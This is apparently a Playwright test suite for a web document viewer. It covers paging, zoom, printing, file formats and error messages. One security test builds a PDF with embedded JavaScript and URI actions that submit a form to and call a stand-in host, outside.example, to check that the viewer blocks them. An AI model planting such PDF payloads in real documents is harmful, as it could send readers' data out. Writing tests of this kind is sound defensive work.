import fs from 'node:fs';
import path from 'node:path';
import { expect, type Locator, type Page, test } from '@playwright/test';
import { expectAccessible } from './fixtures/accessibility.ts';
import { hasSamples, makePdf, sample, type TestFile } from './fixtures/files.ts';
import { seedPerson } from './fixtures/seed.ts';
import { openViewer, viewerOf } from './fixtures/viewer.ts';

test.skip(!hasSamples, 'needs ../shared/samples');

const photo = () => sample('images/exif-orientation-6-landscape.jpg');

const zoom = (page: Page) => page.getByRole('button', { name: /^Zoom \d+ percent/ });

/** A toast's title: it is read out besides, in words that follow the title's. */
const notice = (page: Page, title: string) => page.locator('.toast-title', { hasText: title });

/** The width of what is shown, as the eye has it. */
async function shownWidth(paper: Locator): Promise<number> {
  return (await paper.boundingBox())?.width ?? 0;
}

test('one leafs through the documents, n of total, and the next is there before it is asked for [DVW-1, DVW-5]', async ({
  page,
}) => {
  await seedPerson(page, [
    { name: 'Lease', file: makePdf('Lease') },
    { name: 'Photo', file: photo() },
    { name: 'Policy', file: makePdf('Policy') },
  ]);
  const asked: string[] = [];
  page.on('request', (request) => request.url().includes('/file?') && asked.push(request.url()));
  const viewer = await openViewer(page, 'Policy');
  await expect(viewer.getByText('1 of 3')).toBeVisible();
  await expect(viewer.getByRole('button', { name: 'Previous document' })).toHaveAttribute('aria-disabled', 'true');
  await expect(viewer.locator('canvas').first()).toBeVisible();
  await expect.poll(() => new Set(asked).size).toBe(2); // its own, and its neighbour's

  await viewer.getByRole('button', { name: 'Next document' }).click();
  await expect(viewer.getByText('2 of 3')).toBeVisible();
  await expect(viewer.getByRole('img', { name: 'Photo' })).toBeVisible();
  await page.keyboard.press('Control+ArrowRight');
  await expect(viewer.getByText('3 of 3')).toBeVisible();
  await page.keyboard.press('Control+ArrowRight');
  await expect(viewer.getByRole('heading', { name: 'Lease' })).toBeVisible();
  await page.keyboard.press('Control+ArrowLeft');
  await expect(viewer.getByText('2 of 3')).toBeVisible();
  await page.goBack();
  await expect(viewer).toBeHidden();
});

test('zoom goes by 25 from 25 to 200 percent, a quarter turn at a time, and back to 100 [DVW-2, DVW-5]', async ({
  page,
}) => {
  await seedPerson(page, [{ name: 'Photo', file: photo() }]);
  const viewer = await openViewer(page, 'Photo');
  const picture = viewer.locator('.picture');
  await expect(viewer.getByRole('img', { name: 'Photo' })).toBeVisible();
  const whole = await shownWidth(picture);

  const up: (string | null)[] = [];
  for (let press = 0; press < 5; press += 1) {
    // at the last step it stays in the toolbar, and does nothing
    await viewer.getByRole('button', { name: 'Zoom in' }).click({ force: true });
    up.push(await zoom(page).textContent());
  }
  expect(up).toEqual(['125%', '150%', '175%', '200%', '200%']);
  expect(await shownWidth(picture)).toBeCloseTo(whole * 2, 0);
  const down: (string | null)[] = [];
  for (let press = 0; press < 8; press += 1) {
    await page.keyboard.press('Control+Minus');
    down.push(await zoom(page).textContent());
  }
  expect(down).toEqual(['175%', '150%', '125%', '100%', '75%', '50%', '25%', '25%']);
  expect(await shownWidth(picture)).toBeCloseTo(whole / 4, 0);
  await page.keyboard.press('Control+Equal');
  await expect(zoom(page)).toHaveText('50%');
  await zoom(page).click();
  await expect(zoom(page)).toHaveText('100%');

  const upright = (await picture.boundingBox()) ?? { width: 0, height: 0 };
  await viewer.getByRole('button', { name: 'Rotate' }).click();
  const turned = (await picture.boundingBox()) ?? { width: 0, height: 0 };
  expect(turned.width / turned.height).toBeCloseTo(upright.height / upright.width, 1);
  for (let turn = 0; turn < 3; turn += 1) await page.keyboard.press('Control+r');
  await expect.poll(() => shownWidth(picture)).toBeCloseTo(upright.width, 0);
});

test('Esc closes the innermost layer: the search, then fullscreen, then the viewer [DVW-2, DVW-3, DVW-5, STA-10]', async ({
  page,
}) => {
  await seedPerson(page, [{ name: 'Lease', file: makePdf('Lease of the flat') }]);
  const viewer = await openViewer(page, 'Lease');
  await viewer.getByRole('button', { name: 'Fullscreen', exact: true }).click();
  await expect(viewer.getByRole('button', { name: 'Leave fullscreen' })).toBeVisible();
  await page.keyboard.press('Control+f');
  const search = page.getByRole('search', { name: 'Search in document' });
  await expect(search.getByRole('textbox')).toBeFocused();
  const isFullscreen = () => page.evaluate(() => document.fullscreenElement !== null);

  await page.keyboard.press('Escape');
  await expect(search).toBeHidden();
  expect(await isFullscreen()).toBe(true);
  await page.keyboard.press('Escape');
  await expect.poll(isFullscreen).toBe(false);
  await expect(viewer).toBeVisible();
  await page.keyboard.press('Escape');
  await expect(viewer).toBeHidden();
  await expect(page).not.toHaveURL(/doc=/);
});

test('the shortcuts are the viewer’s alone: not outside it, and not in a field of text [DVW-5]', async ({ page }) => {
  await seedPerson(page, [
    { name: 'Lease', file: makePdf('Lease of the flat') },
    { name: 'Photo', file: photo() },
  ]);
  await page.goto('/dashboard');
  // whether anybody kept a key from the browser
  await page.evaluate(() => {
    const kept: string[] = [];
    Object.assign(window, { kept });
    window.addEventListener('keydown', (event) => setTimeout(() => event.defaultPrevented && kept.push(event.key)));
  });
  const kept = () => page.evaluate(() => (window as unknown as { kept: string[] }).kept.splice(0));
  await page.getByRole('searchbox', { name: 'Search members' }).focus();
  for (const key of ['ArrowLeft', 'ArrowRight', 'f', '+', '-']) await page.keyboard.press(`Control+${key}`);
  expect(await kept()).toEqual([]);

  await page
    .getByRole('link', { name: /\d documents?/ })
    .first()
    .click();
  await page.getByRole('link', { name: /Lease/ }).first().click();
  await expect(viewerOf(page).locator('canvas').first()).toBeVisible();
  await page.keyboard.press('Control+f');
  await page.keyboard.type('flat of');
  await page.keyboard.press('Control+ArrowLeft');
  await page.keyboard.type('x');
  await expect(page.getByRole('search').getByRole('textbox')).toHaveValue('flat xof');
  await expect(viewerOf(page).getByRole('heading', { name: 'Lease' })).toBeVisible();
});

async function copyUrl(page: Page): Promise<void> {
  await viewerOf(page).getByRole('button', { name: 'Copy URL' }).click();
}

test('Copy URL copies the document’s own page, which leads through sign-in back to it [DVW-4]', async ({
  page,
  context,
}) => {
  await context.grantPermissions(['clipboard-read', 'clipboard-write']);
  const person = await seedPerson(page, [{ name: 'Lease', file: makePdf('Lease') }]);
  await openViewer(page, 'Lease');
  const own = page.url();
  await copyUrl(page);
  await expect(notice(page, 'URL copied')).toBeVisible();
  const copied = await page.evaluate(() => navigator.clipboard.readText());
  expect(copied).toBe(own);
  expect(new URL(copied).pathname).toBe('/dashboard');

  await context.clearCookies();
  await page.goto(copied);
  await expect(page).toHaveURL(/\/auth/);
  await page.getByRole('tab', { name: 'Sign In' }).click();
  await page.getByLabel('Email').fill(person.email);
  await page.getByLabel('Password', { exact: true }).fill(person.password);
  await page.getByRole('button', { name: 'Sign In', exact: true }).click();
  await expect(viewerOf(page).getByRole('heading', { name: 'Lease' })).toBeVisible();
  await expect(page).toHaveURL(own);
});

test('a URL that cannot be copied is shown, and one that leads nowhere is not given out [DVW-4, ERR-1]', async ({
  page,
  context,
}) => {
  await seedPerson(page, [{ name: 'Lease', file: makePdf('Lease') }]);
  await openViewer(page, 'Lease');
  await page.evaluate(() => Object.defineProperty(navigator, 'clipboard', { value: undefined })); // as on plain http
  await copyUrl(page);
  const dialog = page.getByRole('dialog', { name: 'Failed to copy to clipboard' });
  await expect(dialog.getByRole('textbox')).toHaveValue(page.url());
  await expect(dialog.getByRole('textbox')).toBeFocused();
  await dialog.getByRole('button', { name: 'Done' }).click();
  await expect(dialog).toBeHidden();

  await context.setOffline(true);
  await copyUrl(page);
  await expect(notice(page, 'Failed to get public URL')).toBeVisible();
});

/** What the browser would hand to a printer: the printer's window itself is no page and stays closed. */
async function printed(page: Page): Promise<Buffer> {
  await page.evaluate(() =>
    Object.assign(window, { prints: 0, print: () => ((window as unknown as { prints: number }).prints += 1) }),
  );
  await viewerOf(page).getByRole('button', { name: 'Print' }).click();
  await expect
    .poll(() => page.evaluate(() => (window as unknown as { prints: number }).prints), { timeout: 45_000 })
    .toBe(1);
  return page.pdf({ preferCSSPageSize: true });
}

function pageSizes(pdf: Buffer): string[] {
  const boxes = pdf.toString('latin1').matchAll(/\/MediaBox\s*\[\s*0\s+0\s+([\d.]+)\s+([\d.]+)/g);
  return [...boxes].map(([, width, height]) => (Number(width) > Number(height) ? 'wide' : 'upright'));
}

test('Print prints the document and nothing around it: all pages of a PDF, a picture fitted, a reading [DVW-4]', async ({
  page,
}) => {
  test.setTimeout(120_000);
  await seedPerson(page, [
    { name: 'Paper', file: sample('pdf/text-14-pages-two-columns.pdf') },
    { name: 'Turned', file: sample('pdf/pages-rotated-second-by-90.pdf') },
    { name: 'Photo', file: photo() },
    { name: 'Letter', file: sample('office/docx-table.docx') },
  ]);
  await openViewer(page, 'Paper');
  await expect(viewerOf(page).locator('canvas').first()).toBeVisible();
  expect(pageSizes(await printed(page))).toEqual(Array.from({ length: 14 }, () => 'upright'));

  await openViewer(page, 'Turned');
  await expect(viewerOf(page).locator('canvas').first()).toBeVisible();
  expect(pageSizes(await printed(page))).toEqual(['upright', 'wide', 'wide']);

  await openViewer(page, 'Photo');
  await expect(viewerOf(page).getByRole('img', { name: 'Photo' })).toBeVisible();
  expect(pageSizes(await printed(page))).toEqual(['wide']);
  await page.emulateMedia({ media: 'print' });
  await expect(viewerOf(page)).toBeHidden();
  await expect(page.getByRole('img', { name: 'Page 1' })).toBeVisible();
  await page.emulateMedia({ media: 'screen' });

  await openViewer(page, 'Letter');
  await expect(viewerOf(page).getByText('Bottom right')).toBeVisible({ timeout: 20_000 });
  expect(pageSizes(await printed(page))).toEqual(['upright']);
});

test('every kind is shown as what it is, and what cannot be says so [DVW-1, MVW-3]', async ({ page }) => {
  test.setTimeout(120_000);
  const pictures: [string, TestFile][] = ['jpeg', 'png', 'webp', 'gif', 'avif', 'bmp', 'heic', 'tiff'].map((kind) => [
    kind,
    sample(
      {
        jpeg: 'images/cmyk-no-profile.jpg',
        png: 'images/png-16bit-flag.png',
        webp: 'images/webp-photo.webp',
        gif: 'images/gif-animated-squares.gif',
        avif: 'images/avif-8bit-yuv420.avif',
        bmp: 'images/bmp-24bit-cat.bmp',
        heic: 'images/heic-iphone-photo.heic',
        tiff: 'images/tiff-multi-page-text.tif',
      }[kind] as string,
    ),
  ]);
  await seedPerson(page, [
    ...pictures.map(([name, file]) => ({ name, file })),
    { name: 'old Word', file: sample('office/doc-97-sample.doc') },
    { name: 'old Excel', file: sample('office/xls-97-sample.xls') },
    { name: 'damaged', file: { name: 'damaged.pdf', mimeType: '', buffer: makePdf('x').buffer.subarray(0, 60) } },
  ]);
  for (const [name] of pictures) {
    const viewer = await openViewer(page, name);
    const picture = viewer.getByRole('img', { name, exact: true });
    await expect(picture, name).toBeVisible({ timeout: 30_000 });
    expect(await picture.evaluate((image: HTMLImageElement) => image.naturalWidth), name).toBeGreaterThan(20);
  }
  for (const name of ['old Word', 'old Excel']) {
    const viewer = await openViewer(page, name);
    await expect(viewer.getByText('Preview not available')).toBeVisible();
    await expect(viewer.getByRole('link', { name: 'Download' }).last()).toBeVisible();
  }
  const viewer = await openViewer(page, 'damaged');
  await expect(viewer.getByText('Failed to load document: the PDF is damaged')).toBeVisible();
  await expect(viewer.getByRole('link', { name: 'Download' }).last()).toBeVisible();
});

test('a locked PDF asks for its own password, says when it is wrong, and opens with the right one [DVW-1]', async ({
  page,
}) => {
  await seedPerson(page, [{ name: 'Locked', file: sample('hostile/encrypted-user-password-openpassword.pdf') }]);
  const viewer = await openViewer(page, 'Locked');
  const field = viewer.getByLabel('Password of this PDF');
  await field.fill('a guess');
  await page.keyboard.press('Enter');
  await expect(viewer.getByText('This password does not open the PDF.')).toBeVisible();
  await field.fill('openpassword');
  await viewer.getByRole('button', { name: 'Open', exact: true }).click();
  await expect(viewer.locator('canvas').first()).toBeVisible();
});

test('a PDF of 117 pages keeps the pages near the eye alone, each within what a phone can draw [DVW-1] @phone', async ({
  page,
}) => {
  await seedPerson(page, [{ name: 'Book', file: sample('pdf/pages-many-117-german-math-book.pdf') }]);
  const viewer = await openViewer(page, 'Book');
  const canvases = viewer.locator('canvas');
  await expect(canvases.first()).toBeVisible();
  for (const share of [0.3, 0.6, 1]) {
    await viewer
      .locator('.vscroll')
      .evaluate((scroller, at) => scroller.scrollTo(0, at * scroller.scrollHeight), share);
    await expect(canvases.first()).toBeVisible();
  }
  await expect(viewer.getByLabel('Page 117 of 117')).toBeInViewport();
  await expect.poll(() => canvases.count()).toBeLessThanOrEqual(6);
  const sizes = await canvases.evaluateAll((all) =>
    all.map((canvas) => (canvas as HTMLCanvasElement).width * (canvas as HTMLCanvasElement).height),
  );
  expect(Math.max(...sizes)).toBeLessThanOrEqual(16_777_216);
});

test('PDFs that carry scripts run none and ask nobody outside [SEC-37]', async ({ page }) => {
  const outside: string[] = [];
  const dialogs: string[] = [];
  const own = () => new URL(page.url()).origin;
  page.on('dialog', (dialog) => {
    dialogs.push(dialog.message());
    void dialog.dismiss();
  });
  await seedPerson(page, [
    { name: 'Actions', file: sample('pdf/javascript-document-actions.pdf') },
    { name: 'Form', file: sample('pdf/xfa-form.pdf') },
    { name: 'Calls', file: callingPdf() },
  ]);
  page.on('request', (request) => {
    const url = new URL(request.url());
    if (url.protocol.startsWith('http') && url.origin !== own()) outside.push(request.url());
  });
  for (const name of ['Actions', 'Form', 'Calls']) {
    const viewer = await openViewer(page, name);
    await expect(viewer.locator('canvas').first()).toBeVisible();
    await page.evaluate(() => new Promise((resolve) => requestAnimationFrame(() => requestAnimationFrame(resolve))));
    expect(await page.evaluate(() => (window as unknown as { scriptRan?: boolean }).scriptRan)).toBeUndefined();
  }
  expect(outside).toEqual([]);
  expect(dialogs).toEqual([]);
  // what a PDF could never do, our own policy forbids besides
  const policy = (await page.request.get('/dashboard')).headers()['content-security-policy'];
  expect(policy).toMatch(/script-src 'self';/);
  expect(policy).not.toContain('unsafe-eval');
});

/** A page that, opened, runs a script, opens a site, submits a form and loads a picture from outside. */
function callingPdf(): TestFile {
  const script = `(app.alert\\('run'\\); this.submitForm\\('https://outside.example/submit'\\); globalThis.scriptRan = true;)`;
  const { buffer } = makePdf('It calls out');
  const text = buffer
    .toString('latin1')
    .replace(
      '<< /Type /Catalog /Pages 2 0 R >>',
      `<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS ${script} >> /AA << /WC << /S /URI /URI (https://outside.example/close) >> >> >>`,
    )
    .replace(
      '/Contents 4 0 R',
      '/Contents 4 0 R /AA << /O << /S /URI /URI (https://outside.example/open) >> >> /Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /A << /S /URI /URI (https://outside.example/link) >> >>]',
    );
  return { name: 'calls.pdf', mimeType: 'application/pdf', buffer: Buffer.from(text, 'latin1') };
}

test('what cannot be loaded or saved says so, in the specified words [ERR-1]', async ({ page, context }) => {
  await seedPerson(page, [
    { name: 'Lease', file: makePdf('Lease') },
    { name: 'Photo', file: photo() },
    { name: 'Between', file: makePdf('Between') }, // the neighbour, which is fetched beforehand
    { name: 'Letter', file: sample('office/docx-table.docx') },
  ]);
  const viewer = await openViewer(page, 'Letter');
  await expect(viewer.getByText('Bottom right')).toBeVisible({ timeout: 20_000 });
  await context.setOffline(true);
  await viewer.getByRole('link', { name: 'Download' }).click();
  await expect(notice(page, 'Download failed')).toBeVisible();
  await expect(page.getByText('Could not download the document', { exact: true })).toBeVisible();
  await context.setOffline(false);

  await loseStoredFiles(page);
  await openViewer(page, 'Photo');
  await expect(viewer.getByText('Failed to load image')).toBeVisible();
  await viewer.getByRole('link', { name: 'Download' }).first().click();
  await expect(notice(page, 'Failed to download document')).toBeVisible();
  await openViewer(page, 'Lease');
  await expect(
    viewer.getByText('Failed to load document: Kinvault does not answer with the file right now'),
  ).toBeVisible();
});

/** What is stored of this person's documents is gone, as after a disk has failed. */
async function loseStoredFiles(page: Page): Promise<void> {
  const { documents } = await (await page.context().request.get('/api/documents')).json();
  const store = path.join(path.dirname(process.env.OUTBOX_DIR ?? ''), 'files');
  const files = fs.readdirSync(store, { recursive: true, encoding: 'utf8' });
  for (const { fileId } of documents) {
    const name = files.find((file) => file.includes(fileId) || file.replaceAll(path.sep, '').includes(fileId));
    if (!name) throw new Error(`no stored file ${fileId} among ${files.slice(0, 5)}`);
    fs.rmSync(path.join(store, name));
  }
}

test('the viewer has no fault that axe finds, searching too [DVW-3]', async ({ page }) => {
  await seedPerson(page, [{ name: 'Lease', file: makePdf('Lease of the flat') }]);
  const viewer = await openViewer(page, 'Lease');
  await expect(viewer.locator('canvas').first()).toBeVisible();
  await page.keyboard.press('Control+f');
  await page.keyboard.type('flat');
  await expect(page.locator('.find-mark')).toHaveCount(1);
  await expectAccessible(page);
});
